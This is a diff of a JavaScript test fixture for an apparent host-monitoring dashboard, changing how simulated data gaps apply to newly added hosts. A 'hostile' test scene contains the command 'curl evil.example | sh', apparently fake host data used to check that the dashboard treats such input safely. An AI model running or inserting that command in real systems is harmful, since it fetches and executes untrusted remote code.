@@ -27,8 +27,8 @@ const scenes = {
   hostile: () => [{ ...laptop(kHostile), facts: { ...laptop(kHostile).facts, os: { name: kHostile }, cpu: { model: kHostile }, energy_command: "curl evil.example | sh", power_sources: [{ source: "rapl", zone: "package", device: "x", readable: false }] } }],
 };
 
-// One minute in each hour is missing: a gap that charts must show.
-const missing = (t) => (t % 3600) >= 1200 && (t % 3600) < 1260;
+// One minute in each hour is missing: a gap that charts must show. A young host has all there is of its history, whatever the hour.
+const missing = (host, t) => host.since === undefined && t % 3600 >= 1200 && t % 3600 < 1260;
 const round = (value) => (value === null ? null : Math.round(value * 1e6) / 1e6);
 
 function matches(pattern, name) {
@@ -51,7 +51,7 @@ function seriesAnswer(host, query) {
   for (let t = Math.floor(start / step) * step; t <= end && timestamps.length < 11_000; t += step) timestamps.push(t);
   const now = Date.now();
   const wanted = host.series.filter((one) => one.name === query.get("name") && [...query].every(([key, value]) => !key.startsWith("label.") || one.labels[key.slice(6)] === value));
-  const series = wanted.map((one) => ({ labels: one.labels, values: timestamps.map((t) => (t > now || t < (host.since ?? 0) || missing(t / 1000) ? null : round(one.f(t / 1000)))) }));
+  const series = wanted.map((one) => ({ labels: one.labels, values: timestamps.map((t) => (t > now || t < (host.since ?? 0) || missing(host, t / 1000) ? null : round(one.f(t / 1000)))) }));
   return { start, end, step_ms: step, tier: "raw", timestamps, series };
 }
 
